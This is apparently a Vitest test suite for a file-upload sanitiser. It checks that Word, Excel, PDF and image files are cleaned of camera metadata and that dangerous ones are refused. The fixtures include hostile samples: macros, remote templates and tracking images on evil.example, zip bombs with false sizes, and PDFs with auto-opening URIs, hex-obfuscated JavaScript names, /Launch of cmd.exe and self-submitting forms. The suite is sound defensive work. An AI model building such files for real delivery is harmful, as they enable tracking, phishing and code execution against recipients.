import { deflateRawSync, deflateSync } from "node:zlib";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { inspectFile } from "./inspect";
import { zipEntries } from "./zip";

const WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

/** An archive of these parts; `lie` writes another unpacked size than it has. */
function zip(parts: Readonly<Record<string, string | Buffer>>, { flags = 0, lie }: { flags?: number; lie?: number } = {}): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let at = 0;
  for (const [name, content] of Object.entries(parts)) {
    const raw = Buffer.from(content);
    const packed = deflateRawSync(raw, { level: 1 });
    const title = Buffer.from(name);
    const facts = Buffer.alloc(26);
    facts.writeUInt16LE(20, 0);
    facts.writeUInt16LE(flags, 2);
    facts.writeUInt16LE(8, 4);
    facts.writeUInt32LE(packed.length, 14);
    facts.writeUInt32LE(lie ?? raw.length, 18);
    facts.writeUInt16LE(title.length, 22);
    const local = Buffer.concat([Buffer.from("PK\u0003\u0004"), facts, title, packed]);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(at, 10);
    central.push(Buffer.concat([Buffer.from("PK\u0001\u0002"), Buffer.from([20, 0]), facts, tail, title]));
    locals.push(local);
    at += local.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.write("PK\u0005\u0006", 0, "latin1");
  end.writeUInt16LE(central.length, 8);
  end.writeUInt16LE(central.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...locals, directory, end]);
}

const types = (more = "") =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${WORD}.main+xml"/>${more}</Types>`;
const relation = (type: string, target: string, mode = "External") =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const word = (more: Readonly<Record<string, string | Buffer>> = {}, options?: Parameters<typeof zip>[1]) => zip({ "[Content_Types].xml": types(), "word/document.xml": "<w:document/>", ...more }, options);

const pdf = (...objects: (string | Buffer)[]) => Buffer.concat([Buffer.from("%PDF-1.7\n"), ...objects.map((object) => Buffer.from(object)), Buffer.from("\n%%EOF")]);
const packed = (content: string, head = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", bytes = deflateSync(content)) =>
  Buffer.concat([Buffer.from(`5 0 obj << ${head} /Length ${bytes.length} >> stream\n`), bytes, Buffer.from("\nendstream endobj\n")]);

/** Bombs take their time on a busy machine. */
const UNHURRIED = 30_000;

describe("documents of Word and Excel", () => {
  it("are taken as they are", async () => {
    const plain = word({ "word/_rels/document.xml.rels": relation("hyperlink", "https://www.beijing.gov.cn/"), "xl/printerSettings/printerSettings1.bin": "x" });
    expect(await inspectFile(plain)).toEqual({ mediaType: WORD, bytes: plain });
  });

  it.each<[string, Buffer]>([
    ["macros", word({ "word/vbaProject.bin": "x" })],
    ["macros under another name", word({ "[Content_Types].xml": types('<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>'), "word/a.xml": "x" })],
    ["macros of another sort of workbook", word({ "xl/macrosheets/sheet1.xml": "x" })],
    ["controls", word({ "word/activeX/activeX1.xml": "x" })],
    ["a packed object", word({ "word/embeddings/oleObject1.bin": "x" })],
    ["a program", word({ "word/media/setup.exe": "MZ" })],
    ["a template fetched from elsewhere", word({ "word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/t.dotm") })],
    ["a picture fetched from elsewhere", word({ "word/_rels/document.xml.rels": relation("image", "https://evil.example/seen.png") })],
    ["the same in other letters", word({ "word/_rels/document.xml.rels": Buffer.from(`\ufeff${relation("attachedTemplate", "https://evil.example/t.dotm")}`, "utf16le") })],
  ])("are refused with %s", async (_, file) => expect(await inspectFile(file)).toBe("fileRunning"));

  it("lose what a camera wrote beside the pictures in them, and nothing else", async () => {
    const exif = { IFD0: { Make: "PHONE-MAKER" }, IFD3: { GPSLatitudeRef: "N", GPSLatitude: "39/1 54/1 0/1" } };
    const photo = sharp({ create: { width: 60, height: 40, channels: 3, background: "#a83" } }).withExif(exif).withMetadata({ orientation: 6 });
    const [jpeg, progressive, png] = [await photo.clone().jpeg().toBuffer(), await photo.clone().jpeg({ progressive: true }).toBuffer(), await photo.clone().png().toBuffer()];
    for (const picture of [jpeg, progressive, png]) expect(picture.includes("PHONE-MAKER")).toBe(true);
    const behind = Buffer.concat([jpeg, jpeg]);
    const parts = { "word/media/image1.jpeg": jpeg, "word/media/image2.png": png, "xl/media/image3.jpg": progressive, "word/media/图片4.dat": behind, "word/styles.xml": "<w:styles>样式</w:styles>" };
    const found = await inspectFile(word(parts));
    if (typeof found === "string") throw new Error(found);
    expect(found.mediaType).toBe(WORD);
    const bare = new Map<string, Buffer>();
    for await (const { name, content } of zipEntries(found.bytes, { entries: 20, unpacked: 1_000_000 })) bare.set(name, content);
    expect([...bare.keys()]).toEqual(["[Content_Types].xml", "word/document.xml", ...Object.keys(parts)]);
    expect(bare.get("word/styles.xml")?.toString("utf8")).toBe(parts["word/styles.xml"]);
    const points = (picture: Buffer) => sharp(picture).raw().toBuffer();
    for (const [name, before] of [["word/media/image1.jpeg", jpeg], ["word/media/image2.png", png], ["xl/media/image3.jpg", progressive], ["word/media/图片4.dat", jpeg]] as const) {
      const after = bare.get(name) ?? Buffer.alloc(0);
      const facts = await sharp(after).metadata();
      expect([name, facts.width, facts.height, facts.exif, facts.orientation, after.includes("PHONE-MAKER")]).toEqual([name, 60, 40, undefined, undefined, false]);
      expect((await points(after)).equals(await points(before))).toBe(true);
    }
    // Looked at again it is what it is, and taken as it is.
    expect(await inspectFile(found.bytes)).toEqual({ mediaType: WORD, bytes: found.bytes });
  });

  it("are refused where such data cannot be taken out of a picture, and where a picture is broken", async () => {
    const picture = sharp({ create: { width: 60, height: 40, channels: 3, background: "#a83" } });
    const telling = await picture.clone().withExif({ IFD0: { Make: "PHONE-MAKER" } }).webp().toBuffer();
    expect(await inspectFile(word({ "word/media/image1.webp": telling }))).toBe("fileTelling");
    const silent = word({ "word/media/image1.webp": await picture.clone().webp().toBuffer() });
    expect(await inspectFile(silent)).toEqual({ mediaType: WORD, bytes: silent });
    const heic = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from("ftypheic"), Buffer.alloc(12)]);
    expect(await inspectFile(word({ "word/media/image1.heic": heic }))).toBe("fileTelling");
    expect(await inspectFile(word({ "word/media/image1.jpg": Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0xff, 0xff, 1]) }))).toBe("fileDamaged");
  });

  it("are refused when they unpack to more than a paper does, whatever size they tell", async () => {
    const bomb = word({ "word/media/a.xml": Buffer.alloc(101 * 1024 * 1024) }, { lie: 1000 });
    expect(bomb.length).toBeLessThan(1024 * 1024);
    expect(await inspectFile(bomb)).toBe("fileUnpacks");
    expect(await inspectFile(word(Object.fromEntries(Array.from({ length: 2_100 }, (__, at) => [`word/${at}.xml`, ""]))))).toBe("fileUnpacks");
  }, UNHURRIED);

  it("are refused when they cannot be read", async () => {
    const whole = word();
    expect(["fileDamaged", "fileKind"]).toContain(await inspectFile(whole.subarray(0, whole.length - 30)));
    // Two names for one part: two programs would see two documents.
    const twoNames = Buffer.from(whole.toString("latin1").replace("word/document.xml", "word/dokument.xml"), "latin1");
    expect(await inspectFile(twoNames)).toBe("fileDamaged");
    expect(await inspectFile(word({}, { flags: 1 }))).toBe("fileLocked");
  });
});

describe("a PDF", () => {
  it("is taken as it is, packed lists of objects and words in it included", async () => {
    const plain = pdf("1 0 obj << /Type /Catalog >> endobj\n", packed("1 0 << /Type /Page >>"), "2 0 obj (JavaScript and Launch are words here) endobj");
    expect(await inspectFile(plain)).toEqual({ mediaType: "application/pdf", bytes: plain });
  });

  it("is taken with an address to follow, and with a place where it opens", async () => {
    const link = "7 0 obj << /Subtype /Link /A << /S /URI /URI (https://www.beijing.gov.cn/) >> >> endobj\n";
    for (const opening of ["/OpenAction [3 0 R /XYZ 0 792 0]", "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", "/OpenAction 5 0 R"]) {
      const plain = pdf(`1 0 obj << /Type /Catalog ${opening} /Names 7 0 R >> endobj\n`, link, "5 0 obj << /S /GoTo /D [3 0 R /Fit] >> endobj\n");
      expect(await inspectFile(plain)).toEqual({ mediaType: "application/pdf", bytes: plain });
    }
  });

  it.each<[string, Buffer]>([
    ["an address that it opens by itself", pdf("1 0 obj << /OpenAction << /S /URI /URI (https://evil.example/seen) >> >> endobj")],
    ["an address that it opens by itself, told elsewhere", pdf("1 0 obj << /OpenAction 15 0 R >> endobj\n15 0 obj << /S /URI /URI (https://evil.example) >> endobj")],
    ["an address that it opens by itself, written otherwise", pdf("1 0 obj << /Open#41ction 15 0 R >> endobj\n15 0 obj << /S /U#52I >> endobj")],
    ["an address in a packed list that it opens by itself", pdf("1 0 obj << /OpenAction 15 0 R >> endobj\n", packed("14 0 15 8 <</A 1>><< /S /URI >>", "/Type /ObjStm /N 2 /First 10 /Filter /FlateDecode"))],
    ["an address in an open list that it opens by itself", pdf("1 0 obj << /OpenAction 15 0 R >> endobj\n", packed("", "/Type /ObjStm /N 1 /First 5", Buffer.from("15 0 << /S /URI >>")))],
    ["an address that it opens after another step", pdf("1 0 obj << /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >> >> endobj\n4 0 obj << /S /URI >> endobj")],
    ["an address that one of its pages opens", pdf("3 0 obj << /Type /Page /AA << /O 4 0 R >> >> endobj\n4 0 obj << /S /URI /URI (https://evil.example) >> endobj")],
    ["another file to open", pdf("1 0 obj << /A << /S /GoToR /F (//evil.example/share/a.pdf) /D [0 /Fit] >> >> endobj")],
    ["a file within it to open", pdf("1 0 obj << /A << /S /GoToE /D [0 /Fit] /T << /R /C /N (a) >> >> >> endobj")],
    ["data to be taken in", pdf("1 0 obj << /A << /S /ImportData /F (a.fdf) >> >> endobj")],
    ["a script", pdf("1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj")],
    ["a script written otherwise", pdf("1 0 obj << /S /J#61vaScr#69pt /JS 3 0 R >> endobj")],
    ["a script in a packed list", pdf(packed("1 0 << /S /JavaScript /JS (x) >>"))],
    ["a script in a list whose kind is written otherwise", pdf(packed("1 0 << /S /JavaScript >>", "/Type /O#62jStm /N 1 /First 4 /Filter [/Fl]"))],
    ["a list packed so as not to be seen", pdf(packed("1 0 << >>", "/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]"))],
    ["a program to start", pdf("1 0 obj << /A << /S /Launch /F (cmd.exe) >> >> endobj")],
    ["a form that sends itself", pdf("1 0 obj << /A << /S /SubmitForm /F (https://evil.example) >> >> endobj")],
    ["a form with a program of its own", pdf("1 0 obj << /AcroForm << /XFA 4 0 R >> >> endobj")],
  ])("is refused with %s", async (_, file) => expect(await inspectFile(file)).toBe("fileRunning"));

  it("is refused when it cannot be looked at", async () => {
    expect(await inspectFile(pdf("trailer << /Encrypt 7 0 R >>"))).toBe("fileLocked");
    expect(await inspectFile(pdf(packed("", undefined, Buffer.from("not packed at all"))))).toBe("fileDamaged");
    expect(await inspectFile(pdf(packed("", undefined, deflateSync(Buffer.alloc(70 * 1024 * 1024), { level: 1 }))))).toBe("fileUnpacks");
  }, UNHURRIED);
});

describe("a picture", () => {
  it("loses what a camera wrote and what hides behind its end, keeps its size, and stands upright", async () => {
    const raw = await sharp({ create: { width: 60, height: 40, channels: 3, background: "#888" } }).withExif({ IFD0: { Make: "PHONE-MAKER" } }).withMetadata({ orientation: 6 }).jpeg().toBuffer();
    const found = await inspectFile(Buffer.concat([raw, Buffer.from("<script>hidden</script>")]));
    if (typeof found === "string") throw new Error(found);
    const facts = await sharp(found.bytes).metadata();
    expect([found.mediaType, facts.width, facts.height, facts.exif, facts.orientation]).toEqual(["image/jpeg", 40, 60, undefined, undefined]);
    for (const word of ["PHONE-MAKER", "hidden"]) expect(Buffer.from(found.bytes).includes(word)).toBe(false);
  });

  it("is refused when it is cut short or unpacks to too many points", async () => {
    const whole = await sharp({ create: { width: 400, height: 400, channels: 3, background: "#888" } }).png().toBuffer();
    expect(await inspectFile(whole.subarray(0, whole.length / 2))).toBe("fileDamaged");
    const vast = await sharp({ create: { width: 9_000, height: 9_000, channels: 3, background: "#000" }, limitInputPixels: false }).png({ compressionLevel: 9 }).toBuffer();
    expect(await inspectFile(vast)).toBe("fileUnpacks");
  }, UNHURRIED);
});

it("is judged by its content: a program under any name is none of ours", async () => {
  expect(await inspectFile(Buffer.from("MZ\u0090\u0000 this program cannot be run"))).toBe("fileKind");
  expect(await inspectFile(Buffer.from("<html><script>alert(1)</script></html>"))).toBe("fileKind");
  expect(await inspectFile(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'))).toBe("fileKind");
});
